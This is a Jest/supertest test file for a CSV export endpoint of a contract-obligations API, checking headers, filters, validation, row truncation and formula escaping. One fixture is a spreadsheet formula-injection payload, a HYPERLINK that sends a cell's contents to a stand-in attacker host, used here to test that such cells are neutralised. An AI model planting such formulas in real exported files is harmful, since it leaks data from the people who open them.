import request from 'supertest';
import { type ObligationDraft } from '../../src/obligations/types';
import { clause, obligation, upload } from '../db/db-modes';
import { parseCsv, records } from '../helpers/csv';
import { bearer, harness, type Harness } from './app-harness';

const NOTICE = 'The Processor shall notify the Controller without undue delay and in any event within 48 hours after becoming aware of a Personal Data Breach.';
const FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Click") Supplier shall maintain cyber insurance.';

/** One contract with Lumen (a 48-hour breach notice) and one with Northwind whose clause text looks like a formula. */
async function seeded(): Promise<{ h: Harness; lumen: string; northwind: string }> {
  const h = await harness();
  const add = async (counterparty: string, text: string, draft: Partial<ObligationDraft>) => {
    const { contract } = await h.store.createContract(upload(counterparty, `${counterparty} contract`), 'test');
    const [cl] = await h.store.saveExtraction(contract.id, text, [{ number: 1, start: 0, end: text.length }], [clause({ text, page: 3 })]);
    await h.store.saveObligations(contract.id, [{ ...obligation(0, draft), clauseId: cl.id }]);
    return contract.id;
  };
  const lumen = await add('Lumen Analytics Ltd', NOTICE, {
    type: 'breach_notification',
    trigger: 'personal_data_breach',
    deadline: { amount: 48, unit: 'hours', qualifier: 'without undue delay', recurring: false },
    summary: 'Notify of a personal data breach without undue delay and within 48 hours of becoming aware',
  });
  const northwind = await add('Northwind Security', FORMULA, {
    type: 'insurance',
    action: 'maintain_insurance',
    trigger: 'none',
    deadline: null,
    summary: '@SUM(1+1) cyber insurance',
  });
  return { h, lumen, northwind };
}

const csv = (h: Harness, query: Record<string, string> = {}) => request(h.app).get('/api/v1/obligations.csv').query(query).set(bearer(h.tokens.legal));

describe('GET /api/v1/obligations.csv', () => {
  it('downloads every matching obligation as a CSV attachment, with its deadline in words and the quote as evidence', async () => {
    const { h, lumen } = await seeded();
    const res = await csv(h);
    expect(res.status).toBe(200);
    expect(res.headers['content-type']).toBe('text/csv; charset=utf-8');
    expect(res.headers['content-disposition']).toBe('attachment; filename="obligations.csv"');
    expect(res.headers['x-truncated']).toBeUndefined();
    expect(parseCsv(res.text)[0]).toEqual(['Counterparty', 'Contract id', 'Type', 'Action', 'Obligor', 'Beneficiary', 'Trigger', 'Deadline', 'Summary', 'Page', 'Quote']);
    const rows = records(res.text);
    expect(rows).toHaveLength(2);
    expect(rows.find((r) => r.Counterparty === 'Lumen Analytics Ltd')).toEqual({
      Counterparty: 'Lumen Analytics Ltd',
      'Contract id': lumen,
      Type: 'breach_notification',
      Action: 'notify_incident',
      Obligor: 'counterparty',
      Beneficiary: 'us',
      Trigger: 'personal_data_breach',
      Deadline: '48 hours; without undue delay',
      Summary: 'Notify of a personal data breach without undue delay and within 48 hours of becoming aware',
      Page: '3',
      Quote: NOTICE,
    });
  });

  it('neutralises cells a spreadsheet would run as a formula', async () => {
    const { h } = await seeded();
    const [row] = records((await csv(h, { counterparty: 'northwind' })).text);
    expect(row.Quote).toBe(`'${FORMULA}`);
    expect(row.Summary).toBe("'@SUM(1+1) cyber insurance");
    expect(row.Deadline).toBe('');
  });

  it("takes the search's filters, and the list's page parameters without cutting the file to a page", async () => {
    const { h, northwind } = await seeded();
    const lumen = records((await csv(h, { counterparty: 'lumen', q: 'personal data breach', action: 'notify_incident', obligor: 'counterparty', trigger: 'personal_data_breach', type: 'breach_notification' })).text);
    expect(lumen.map((r) => r.Counterparty)).toEqual(['Lumen Analytics Ltd']);
    expect(records((await csv(h, { contract: northwind })).text).map((r) => r['Contract id'])).toEqual([northwind]);
    expect(records((await csv(h, { limit: '1', offset: '1' })).text)).toHaveLength(2);
    const none = await csv(h, { obligor: 'us' });
    expect(parseCsv(none.text)).toHaveLength(1);
  });

  it('refuses what the search refuses, naming the parameter', async () => {
    const { h } = await seeded();
    for (const [query, field] of [[{ obligor: 'them' }, 'query.obligor'], [{ contract: 'not-a-uuid' }, 'query.contract'], [{ format: 'xlsx' }, 'format']] as const) {
      const res = await csv(h, query);
      expect(res.status).toBe(400);
      expect(res.headers['content-type']).toMatch(/^application\/problem\+json/);
      expect(res.body.detail).toContain(field);
    }
  });

  it('stops at 10,000 rows and says so in X-Truncated', async () => {
    const h = await harness();
    const { contract } = await h.store.createContract(upload('Bulk Vendor', 'bulk'), 'test');
    const text = 'Supplier shall keep records.';
    const [cl] = await h.store.saveExtraction(contract.id, text, [{ number: 1, start: 0, end: text.length }], [clause({ text })]);
    await h.store.saveObligations(contract.id, Array.from({ length: 10_001 }, () => ({ ...obligation(0), clauseId: cl.id })));
    const cut = await csv(h);
    expect(cut.status).toBe(200);
    expect(cut.headers['x-truncated']).toBe('true');
    expect(parseCsv(cut.text)).toHaveLength(1 + 10_000);
  });
});
